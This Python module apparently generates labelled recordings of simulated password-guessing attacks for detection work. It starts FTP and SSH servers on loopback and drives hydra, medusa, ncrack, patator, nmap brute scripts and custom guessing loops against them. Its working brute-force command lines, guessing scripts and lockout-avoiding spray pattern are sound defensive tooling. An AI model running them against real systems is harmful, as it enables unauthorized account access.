"""Password guessing against our own servers: few tries, on loopback, and the server's side recorded.

Carriers: the server's processes (or threads) for the guesser's connections. The listener is left out,
and so is the guessing program: it runs on another machine in an attack.
"""

from capture.process import Task
from capture.recording import Recording, Service
from capture.sandbox import ACCOUNTS
from scenarios import inputs, servers, simulated_attack

USERS = ["root", "admin", "oracle", "test", "alice", "bob", "www-data", "ubuntu", "carol", "postgres", "dave", "git", "ftp", "backup"]
TOOLS = ["hydra", "hydra", "hydra", "medusa", "ncrack", "patator", "nmap", "loop", "loop", "script", "script", "spray"]
#: What starts a server for each connection, and is none itself.
STARTERS = {"socat"}

FTP_SCRIPT = """import ftplib, random, sys, time
port, least, most = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
for line in open(sys.argv[4]):
    name, word = line.split()
    try:
        ftp = ftplib.FTP()
        ftp.connect("127.0.0.1", port, timeout=15)
        ftp.login(name, word)
        ftp.nlst(); ftp.pwd()
        ftp.quit()
    except ftplib.all_errors:
        pass
    time.sleep(random.uniform(least, most))
"""
SSH_SCRIPT = """import logging, paramiko, random, sys, time
logging.disable()
port, least, most = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
for line in open(sys.argv[4]):
    name, word = line.split()
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        client.connect("127.0.0.1", port, name, word, timeout=15, auth_timeout=15, banner_timeout=15, look_for_keys=False, allow_agent=False)
        client.exec_command("id")[1].read()
    except Exception:
        pass
    client.close()
    time.sleep(random.uniform(least, most))
"""


class Guesses:
    """User names and passwords, in files and at hand. At times a guess is right."""

    def __init__(self, rec: Recording):
        rng = rec.rng
        self.users = rng.sample(USERS, rng.randint(1, 3))
        self.words = [rng.choice(inputs.WORDS) + rng.choice(["", "1", "123", "!", "2024"]) for _ in range(rng.randint(3, 6))]
        if rng.random() < 0.25:
            self.words[-1] = rng.choice(list(ACCOUNTS.values()))
        self.user_file = str(rec.write("users", "\n".join(self.users) + "\n"))
        self.word_file = str(rec.write("words", "\n".join(self.words) + "\n"))
        pairs = [f"{name} {word}\n" for name in self.users for word in self.words[:4]]
        rng.shuffle(pairs)
        self.pair_file = str(rec.write("pairs", "".join(pairs[:8])))


def served(service: Service) -> list[Task]:
    """The server's processes and threads but the listener itself."""
    root = service.root()
    programs = {root.program}
    if root.program in STARTERS:
        programs = {task.program for task in service.tree if task.executed and (above := service.tree.get(task.parent)) and above.program in STARTERS} - STARTERS
    return [task for task in service.children() if task.program in programs]


def once(rec: Recording, protocol: str, port: int, name: str, word: str) -> None:
    """One guess with an ordinary client."""
    rng = rec.rng
    if protocol == "ssh":
        rec.quietly(["sshpass", "-p", word, "ssh", "-oStrictHostKeyChecking=no", "-oUserKnownHostsFile=/dev/null", "-oPubkeyAuthentication=no",
                     f"-oNumberOfPasswordPrompts={rng.randint(1, 3)}", "-p", str(port), f"{name}@127.0.0.1", "true"], timeout=20)
        return
    client = rng.choice(["curl", "lftp", "wget", "ncftpls"])
    url = f"ftp://127.0.0.1:{port}/"
    rec.quietly({
        "curl": ["curl", "-s", "-m", "10", "-u", f"{name}:{word}", url],
        "lftp": ["lftp", "-e", "set net:timeout 5; set net:max-retries 1; set ftp:ssl-allow no; ls; bye", "-u", f"{name},{word}", url],
        "wget": ["wget", "-q", "-T", "8", "-t", "1", "-O", "/dev/null", f"--user={name}", f"--password={word}", url],
        "ncftpls": ["ncftpls", "-t", "8", "-r", "0", "-u", name, "-p", word, url],
    }[client], timeout=12)


def guess(rec: Recording, protocol: str, port: int) -> None:
    rng = rec.rng
    guesses = Guesses(rec)
    tasks = str(rng.randint(1, 4))
    #: Some guess as fast as they can, some wait between guesses to stay below limits.
    least, most = rng.choice([(0, 0.1), (0, 0.3), (0.3, 1.2), (0.8, 2.0)])
    tool = rng.choice(TOOLS)
    extra = rng.choice([[], ["-e", "ns"], ["-e", "r"], ["-u"], ["-f"], ["-c", "1", "-t", "1"], ["-W", "1"]])
    match tool:
        case "hydra":
            rec.quietly(["hydra", "-I", "-L", guesses.user_file, "-P", guesses.word_file, "-t", tasks, *extra, "-s", str(port), "127.0.0.1", protocol], timeout=25)
        case "medusa":
            flags = rng.choice([[], ["-F"], ["-e", "ns"], ["-L"]])
            rec.quietly(["medusa", "-h", "127.0.0.1", "-n", str(port), "-U", guesses.user_file, "-P", guesses.word_file, "-t", tasks, *flags, "-M", protocol], timeout=25)
        case "ncrack":
            rec.quietly(["ncrack", "-U", guesses.user_file, "-P", guesses.word_file, f"{protocol}://127.0.0.1:{port}", "-g", f"CL={tasks},at=2,cr=2,cd=400ms,to=15s"],
                        timeout=20)
        case "patator":
            rec.quietly(["patator", f"{protocol}_login", "host=127.0.0.1", f"port={port}", "user=FILE0", "password=FILE1", f"0={guesses.user_file}",
                         f"1={guesses.word_file}", "-t", tasks, "--max-retries=1", *rng.choice([[], ["--rate-limit=0.5"]])], timeout=25)
        case "nmap":
            rec.quietly(["nmap", "-n", "-Pn", "-p", str(port), "--script", f"+{protocol}-brute", "--script-args",
                         f"userdb={guesses.user_file},passdb={guesses.word_file},brute.threads={tasks},brute.firstonly=true", "127.0.0.1"], timeout=15)
        case "loop":
            for name in guesses.users:
                for word in guesses.words[:3]:
                    once(rec, protocol, port, name, word)
                    rec.pause(least, most)
        case "spray":
            # One password for everybody, then the next: no account is locked.
            for word in guesses.words[:2]:
                for name in rng.sample(USERS, 4):
                    once(rec, protocol, port, name, word)
                    rec.pause(least, most)
        case "script":
            source = FTP_SCRIPT if protocol == "ftp" else SSH_SCRIPT
            rec.quietly(["/usr/bin/python3", str(rec.write("try.py", source)), str(port), str(least), str(most), guesses.pair_file], timeout=30)


@simulated_attack(80)
def hydra_ftp(rec: Recording) -> None:
    port = rec.port()
    with servers.ftp(rec, port) as service:
        guess(rec, "ftp", port)
    rec.keep(served(service))


@simulated_attack(64)
def hydra_ssh(rec: Recording) -> None:
    port = rec.port()
    with servers.ssh(rec, port) as service:
        guess(rec, "ssh", port)
    rec.keep(served(service))
